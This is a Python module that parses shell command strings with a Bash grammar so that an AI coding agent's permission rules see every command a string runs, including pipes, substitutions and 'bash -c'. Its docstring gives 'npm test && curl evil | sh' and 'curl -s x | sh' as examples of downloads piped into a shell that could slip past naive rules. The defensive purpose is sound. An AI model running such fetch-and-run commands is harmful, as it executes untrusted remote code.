"""Shell commands as the simple commands they run, parsed with a real grammar (tree-sitter-bash).

A permission rule written for one command (``Bash(npm test *)``) must match every
command a string runs, or ``npm test && curl evil | sh`` slips through. So a
command string is parsed with the tree-sitter Bash grammar, never split with
regular expressions, and flattened into :class:`SimpleCommand` values: the words
after quote removal, the leading ``VAR=value`` assignments, the redirections, and
where the command sat (a pipeline, ``$(...)``, a subshell, ``bash -c '...'``).

Nothing here knows any runtime's rule language: Claude Code's matcher
(:mod:`.claude`), and later Gemini CLI's or Codex's, read the same commands.

>>> [c.text for c in parse("npm test && curl -s x | sh").commands]
['npm test', 'curl -s x', 'sh']
>>> parse('echo "unterminated').problem
'syntax error near "unterminated'
"""

from __future__ import annotations

import codecs
from dataclasses import dataclass, replace
from functools import lru_cache
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from tree_sitter import Node, Parser

__all__ = ["MAX_COMMAND_LENGTH", "ParsedCommand", "Redirect", "SimpleCommand", "parse", "words"]

#: Longer commands are not analysed (Claude Code: "Commands longer than 10,000 characters
#: always prompt because they exceed what the analysis parses").
MAX_COMMAND_LENGTH = 10_000
#: Shells whose ``-c STRING`` (and ``eval``) run a string as code: the string is parsed too.
_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish"})
#: Nesting cut-off for substitutions and ``bash -c`` inside ``bash -c`` ...
_MAX_NESTING = 8
_OUTPUT_OPS = frozenset({">", ">>", ">|", "&>", "&>>", ">&"})
_STATEMENT_KEYWORDS = frozenset({"if", "then", "else", "elif", "fi", "do", "done", "while",
                                 "until", "for", "in", "case", "esac", "function", "{", "}",
                                 "(", ")", ";", ";;", "&", "&&", "||", "|", "|&", "!", "\n"})


@dataclass(frozen=True)
class Redirect:
    """An output redirection: ``>`` ``out.txt`` (input and fd-duplication redirections are
    not kept: they write nothing)."""

    op: str
    target: str
    dynamic: bool  # the target holds an expansion ($X, $(...)) or an unquoted glob


@dataclass(frozen=True)
class SimpleCommand:
    """One command a string runs: ``FOO=1 timeout 5 npm test > log``.

    ``argv`` holds the words after quote removal (``"n"pm`` is ``npm``) with
    expansions kept as written (``$HOME``); ``dynamic[i]`` says whether word
    ``i`` holds an expansion or substitution, ``globbed[i]`` whether it holds an
    unquoted glob character. ``context`` says where the command sat: ``""`` at
    the top, else ``$(...)``, ``<(...)``, ``bash -c``, ``eval``, ... An empty
    ``argv`` is an assignment-only statement (``X=1``) or the redirections of a
    compound statement (``(cd a; ls) > out``).
    """

    argv: tuple[str, ...]
    assignments: tuple[tuple[str, str], ...] = ()
    redirects: tuple[Redirect, ...] = ()
    dynamic: tuple[bool, ...] = ()
    globbed: tuple[bool, ...] = ()
    context: str = ""
    source: str = ""  # the command's own text in the string (its words, as written)

    @property
    def text(self) -> str:
        """The command as rules see it: assignments, then the words, single-spaced."""
        if not self.assignments:  # the usual case, read for every rule kind: no unpacking
            return " ".join(self.argv)
        return " ".join([*(f"{k}={v}" for k, v in self.assignments), *self.argv])

    @property
    def name(self) -> str:
        """The command's name (``argv[0]``), or ``""`` for an assignment / redirect-only one."""
        return self.argv[0] if self.argv else ""


@dataclass(frozen=True)
class ParsedCommand:
    """Every simple command of one command string, in order; ``problem`` says why the
    string could not be parsed (then ``commands`` is empty and nothing may be approved)."""

    source: str
    commands: tuple[SimpleCommand, ...]
    problem: str | None = None


@lru_cache(maxsize=1)
def _parser() -> Parser:
    """The tree-sitter Bash parser (imported on first use: ``import toolkit`` stays cheap)."""
    import tree_sitter
    import tree_sitter_bash

    return tree_sitter.Parser(tree_sitter.Language(tree_sitter_bash.language()))


@lru_cache(maxsize=4096)
def parse(command: str) -> ParsedCommand:
    """Parse a command string into its simple commands (cached: each string is parsed once)."""
    if len(command) > MAX_COMMAND_LENGTH:
        return ParsedCommand(command, (), f"longer than {MAX_COMMAND_LENGTH:,} characters")
    if "\x00" in command:
        return ParsedCommand(command, (), "it contains a NUL byte")
    walker = _Walker()
    problem = walker.walk_source(command, "", 0)
    if problem is not None:
        return ParsedCommand(command, (), problem)
    return ParsedCommand(command, tuple(walker.found))


def words(command: str) -> tuple[str, ...] | None:
    """The words of a single simple command, or None when the string is not exactly one.

    >>> words("git commit -m 'fix it'")
    ('git', 'commit', '-m', 'fix it')
    """
    parsed = parse(command)
    if parsed.problem is not None or len(parsed.commands) != 1:
        return None
    return parsed.commands[0].argv


#: Node types of a statement's non-statement children (``for`` / ``case`` words): only the
#: substitutions in them run.
_WORDS = frozenset({"word", "variable_name", "string", "raw_string", "concatenation",
                    "simple_expansion", "expansion", "number", "extglob_pattern"})
_EXPANSIONS = ("simple_expansion", "expansion", "command_substitution", "process_substitution",
               "arithmetic_expansion")
#: Statements that hold no statements (``command`` aside): each has its own reading.
_LEAF_STATEMENTS = frozenset({"redirected_statement", "variable_assignment",
                              "variable_assignments", "declaration_command", "unset_command",
                              "test_command", "comment", "heredoc_body", "heredoc_end",
                              "heredoc_start"})
_PLAIN_WORDS = frozenset({"word", "number", "extglob_pattern"})
#: A command's children that are not its words.
_NOT_WORDS = frozenset({"variable_assignment", "file_redirect", "herestring_redirect",
                        "heredoc_redirect", "comment"})
#: A word (its value after quote removal, whether it holds an expansion, an unquoted glob).
_Word = tuple[str, bool, bool]


class _Walker:
    """Walks a tree-sitter tree, collecting simple commands (substitutions included).

    This is the hot path of every new command a permission engine meets (issue 21's figure
    9), so it reads the tree frugally: a node's text is a slice of the string being walked
    (a ``str`` slice when that string is ASCII, so byte offsets are character offsets),
    not ``node.text`` decoded per node; a node's type is read once; words are plain tuples;
    substitutions are looked for only when the string holds ``$(``, a backtick, ``<(`` or
    ``>(``. ``tests/core/permissions/test_shell_walk_reference.py`` holds the plain walk
    this replaced and compares the two on a generated corpus.
    """

    __slots__ = ("_ascii", "_source", "found", "substitutes")

    def __init__(self) -> None:
        self.found: list[SimpleCommand] = []
        self.substitutes = True  # whether any $(...), `...`, <(...) or >(...) can be in it
        self._source = b""  # the UTF-8 string being walked ...
        self._ascii: str | None = None  # ... and the same as a str when it is ASCII

    def walk_source(self, code: str, context: str, depth: int) -> str | None:
        """Parse ``code`` and collect its commands; returns a problem or None."""
        if depth > _MAX_NESTING:
            return "commands nested too deeply"
        source = code.encode()
        root = _parser().parse(source).root_node
        if root.has_error:
            return _syntax_problem(root)
        outer = self.substitutes, self._source, self._ascii
        self.substitutes = (b"$(" in source or b"`" in source or b"<(" in source
                            or b">(" in source)
        self._source = source
        self._ascii = code if code.isascii() else None
        try:
            return self._statement(root, root.type, context, depth)
        finally:
            self.substitutes, self._source, self._ascii = outer

    def _text(self, node: Node) -> str:
        """The node's text: its bytes of the string being walked (``node.text``, decoded)."""
        if self._ascii is not None:
            return self._ascii[node.start_byte:node.end_byte]
        return self._source[node.start_byte:node.end_byte].decode("utf-8", "replace")

    def _statement(self, node: Node, kind: str, context: str, depth: int) -> str | None:
        """Any statement (``kind`` is its type): a command, or something holding statements
        (lists, loops, ...)."""
        if kind == "command":
            return self._command(node, (), (), context, depth)
        if kind not in _LEAF_STATEMENTS:
            # program, list, pipeline, subshell, compound_statement, if/while/for/case,
            # function_definition, negated_command, ...: every child statement runs.
            inner = "subshell" if kind == "subshell" else context
            for child in node.named_children:
                child_kind = child.type
                if child_kind in _WORDS:  # for/case words: $(...) only
                    problem = self._substitutions(child, inner, depth)
                else:
                    problem = self._statement(child, child_kind, inner, depth)
                if problem is not None:
                    return problem
            return None
        if kind == "redirected_statement":
            return self._redirected(node, context, depth)
        if kind == "variable_assignment" or kind == "variable_assignments":
            return self._assignment_only(node, kind, context, depth)
        if kind in ("declaration_command", "unset_command", "test_command"):
            return self._builtin(node, context, depth)
        return None  # comment, heredoc_body, heredoc_end, heredoc_start

    def _redirected(self, node: Node, context: str, depth: int) -> str | None:
        body = node.child_by_field_name("body")
        redirect_nodes = node.children_by_field_name("redirect")
        redirects = tuple(r for child in redirect_nodes for r in self._redirects(child))
        heredocs = tuple(self._text(h) for child in redirect_nodes
                         for h in _find(child, ("heredoc_body",)))
        problem: str | None = None
        body_kind = body.type if body is not None else ""
        if body is not None and body_kind == "command":
            problem = self._command(body, redirects, heredocs, context, depth)
        elif body is not None:
            before = len(self.found)
            problem = self._statement(body, body_kind, context, depth)
            if problem is None and redirects:
                self._attach(body_kind, before, redirects, context)
        for child in redirect_nodes:
            problem = problem or self._substitutions(child, context, depth)
        return problem

    def _attach(self, body_kind: str, before: int, redirects: tuple[Redirect, ...],
                context: str) -> None:
        """Redirections after a list or pipeline belong to its last command (the grammar
        hangs them on the whole ``a && b > f``; bash gives them to ``b``); after a subshell
        or group they are a command of their own."""
        mine = [i for i in range(before, len(self.found)) if self.found[i].context == context]
        if body_kind in ("list", "pipeline") and mine:  # not a command of a substitution
            last = self.found[mine[-1]]
            self.found[mine[-1]] = replace(last, redirects=(*last.redirects, *redirects))
            return
        shown = " ".join(f"{r.op} {r.target}" for r in redirects)
        self.found.append(SimpleCommand((), (), redirects, context=context, source=shown))

    def _command(self, node: Node, redirects: tuple[Redirect, ...], heredocs: tuple[str, ...],
                 context: str, depth: int) -> str | None:
        assignments: list[tuple[str, str]] = []
        values: list[str] = []
        dynamic: list[bool] = []
        globbed: list[bool] = []
        children = node.named_children
        ascii_ = self._ascii
        for child in children:
            kind = child.type
            if kind in _NOT_WORDS:  # an assignment, a redirection, a comment
                redirects, heredocs = self._not_word(child, kind, assignments, redirects,
                                                     heredocs)
                continue
            if kind == "command_name":  # the word it holds (as _word reads a command_name)
                named = child.named_children
                if named:
                    child = named[0]
                    kind = child.type
            if kind == "word" and ascii_ is not None:  # the usual word, inline: as _word's
                text = ascii_[child.start_byte:child.end_byte]
                values.append(_unescape(text) if "\\" in text else text)
                dynamic.append(False)
                globbed.append("*" in text or "?" in text or "[" in text)
            else:
                value, is_dynamic, is_globbed = self._word(child, kind)
                values.append(value)
                dynamic.append(is_dynamic)
                globbed.append(is_globbed)
        command = SimpleCommand(tuple(values), tuple(assignments), redirects, tuple(dynamic),
                                tuple(globbed), context, self._text(node))
        self.found.append(command)
        if self.substitutes:
            for child in children:  # then what its substitutions run, in order
                problem = self._substitutions(child, context, depth)
                if problem is not None:
                    return problem
        if not values or (values[0] not in _SHELLS and values[0] != "eval"):
            return None  # no string run as code
        return self._code_argument(command, heredocs, depth)

    def _not_word(self, node: Node, kind: str, assignments: list[tuple[str, str]],
                  redirects: tuple[Redirect, ...], heredocs: tuple[str, ...]
                  ) -> tuple[tuple[Redirect, ...], tuple[str, ...]]:
        """A command's child that is not one of its words: an assignment is added to
        ``assignments``; a redirection's output redirects and here-documents are returned
        after ``redirects`` and ``heredocs``; a comment is nothing."""
        if kind == "variable_assignment":
            assignments.append(self._assignment(node))
        elif kind != "comment":
            redirects = (*redirects, *self._redirects(node))
            heredocs = (*heredocs, *(self._text(h) for h in _find(node, ("heredoc_body",))))
        return redirects, heredocs

    def _code_argument(self, command: SimpleCommand, heredocs: tuple[str, ...],
                       depth: int) -> str | None:
        """Strings a command runs as code, parsed as well: ``bash -c 'STRING'``,
        ``eval WORDS``, and a here-document fed to a shell (``bash <<EOF``)."""
        argv = command.argv
        code: str | None = None
        label = ""
        if argv and argv[0] in _SHELLS and "-c" in argv[1:]:
            at = argv.index("-c", 1)
            if at + 1 < len(argv) and not command.dynamic[at + 1]:
                code, label = argv[at + 1], f"{argv[0]} -c"
        elif argv and argv[0] == "eval" and not any(command.dynamic[1:]):
            code, label = " ".join(argv[1:]), "eval"
        elif argv and argv[0] in _SHELLS and heredocs:
            code, label = "\n".join(heredocs), f"{argv[0]} <<here-document"
        if code is None:
            return None
        return self.walk_source(code, label, depth + 1)

    def _assignment_only(self, node: Node, kind: str, context: str, depth: int) -> str | None:
        """``X=1`` on its own: it changes what later commands run (``PATH=...``)."""
        pairs = [node] if kind == "variable_assignment" else [
            c for c in node.named_children if c.type == "variable_assignment"]
        self.found.append(SimpleCommand((), tuple(self._assignment(p) for p in pairs),
                                        context=context, source=self._text(node)))
        return self._substitutions(node, context, depth)

    def _builtin(self, node: Node, context: str, depth: int) -> str | None:
        """``export X=1``, ``unset X``, ``[[ -f x ]]``: a command named by its keyword."""
        argv = [text for c in node.children if (text := self._text(c)).strip()]
        dynamic = [_has(node, _EXPANSIONS)] * len(argv)
        self.found.append(SimpleCommand(tuple(argv), (), (), tuple(dynamic), (False,) * len(argv),
                                        context, self._text(node)))
        return self._substitutions(node, context, depth)

    def _substitutions(self, node: Node, context: str, depth: int) -> str | None:
        """The commands inside ``$(...)``, backticks and ``<(...)`` anywhere under ``node``."""
        if not self.substitutes:
            return None  # no substitution anywhere in the string
        for sub in _find(node, ("command_substitution", "process_substitution")):
            label = "<(...)" if sub.type == "process_substitution" else (
                "`...`" if self._text(sub).startswith("`") else "$(...)")
            for child in sub.named_children:
                problem = self._statement(child, child.type, label, depth + 1)
                if problem is not None:
                    return problem
        return None

    # -- words ------------------------------------------------------------------------------

    def _word(self, node: Node, kind: str) -> _Word:
        """A word (``kind`` is its node's type) after quote removal, keeping expansions as
        written."""
        if kind == "word" or kind in _PLAIN_WORDS:
            text = self._text(node)
            return (_unescape(text) if "\\" in text else text, False,
                    "*" in text or "?" in text or "[" in text)
        if kind == "command_name":
            named = node.named_children
            if named:
                return self._word(named[0], named[0].type)
            return (self._text(node), False, False)
        text = self._text(node)
        if kind == "raw_string":
            return (text[1:-1], False, False)
        if kind == "ansi_c_string":
            return (_ansi_c(text[2:-1]), False, False)
        if kind == "string" or kind == "translated_string":
            return (self._double_quoted(node), _has(node, _EXPANSIONS), False)
        if kind == "concatenation":
            parts = [self._word(c, c.type) for c in node.children]
            return ("".join(p[0] for p in parts), any(p[1] for p in parts),
                    any(p[2] for p in parts))
        if kind in _EXPANSIONS:
            return (text, True, False)
        return (text, _has(node, _EXPANSIONS), _has_glob(text))

    def _double_quoted(self, node: Node) -> str:
        out = []
        for child in node.children:
            kind = child.type
            if kind == '"' or kind == '$"':
                continue
            piece = self._text(child)
            if kind == "string_content":
                for esc in ('\\\\', '\\"', "\\$", "\\`"):
                    piece = piece.replace(esc, esc[1])
                piece = piece.replace("\\\n", "")
            out.append(piece)
        return "".join(out)

    def _assignment(self, node: Node) -> tuple[str, str]:
        name = node.child_by_field_name("name")
        value = node.child_by_field_name("value")
        return (self._text(name) if name is not None else "",
                self._word(value, value.type)[0] if value is not None else "")

    def _redirects(self, node: Node) -> list[Redirect]:
        """The output redirections in a redirect node (a here-document may carry one too)."""
        return [r for n in _find(node, ("file_redirect",))
                if (r := self._redirect(n)) is not None]

    def _redirect(self, node: Node) -> Redirect | None:
        """An output redirection's operator and target (None for input / fd duplication)."""
        op = next((c.type for c in node.children if not c.is_named), "")
        destination = node.child_by_field_name("destination")
        if op not in _OUTPUT_OPS or destination is None:
            return None
        kind = destination.type
        if op == ">&" and kind == "number":
            return None  # 2>&1: a file descriptor, not a file
        value, is_dynamic, is_globbed = self._word(destination, kind)
        if value == "-" and op == ">&":
            return None  # >&-: closes the descriptor
        return Redirect(op, value, is_dynamic or is_globbed)


# -- words ----------------------------------------------------------------------------------

def _unescape(text: str) -> str:
    """An unquoted word's backslashes: ``\\x`` is ``x``; a backslash-newline joins lines."""
    if "\\" not in text:
        return text
    out = []
    i = 0
    while i < len(text):
        if text[i] == "\\" and i + 1 < len(text):
            if text[i + 1] != "\n":
                out.append(text[i + 1])
            i += 2
            continue
        out.append(text[i])
        i += 1
    return "".join(out)


def _ansi_c(body: str) -> str:
    """``$'...'`` escapes (``\\x72m`` is ``rm``); an undecodable one stays as written."""
    try:
        return codecs.decode(body.encode("latin-1", "backslashreplace"), "unicode_escape")
    except UnicodeDecodeError:
        return body


def _has_glob(text: str) -> bool:
    return "*" in text or "?" in text or "[" in text


# -- tree helpers ---------------------------------------------------------------------------

def _text(node: Node | None) -> str:
    if node is None or node.text is None:
        return ""
    return node.text.decode("utf-8", "replace")


def _has(node: Node, kinds: tuple[str, ...]) -> bool:
    return node.type in kinds or any(_has(c, kinds) for c in node.children)


def _find(node: Node, kinds: tuple[str, ...]) -> list[Node]:
    """The outermost nodes of ``kinds`` under ``node`` (not inside each other)."""
    if node.type in kinds:
        return [node]
    out: list[Node] = []
    for child in node.children:
        out.extend(_find(child, kinds))
    return out


def _syntax_problem(root: Any) -> str:
    """``syntax error near "..."`` for the first ERROR or MISSING node."""
    stack = [root]
    while stack:
        node = stack.pop(0)
        if node.type == "ERROR" or node.is_missing:
            near = _text(node).strip().splitlines()[0][:40] if _text(node).strip() else node.type
            return f"syntax error near {near}"
        stack[0:0] = list(node.children)
    return "syntax error"
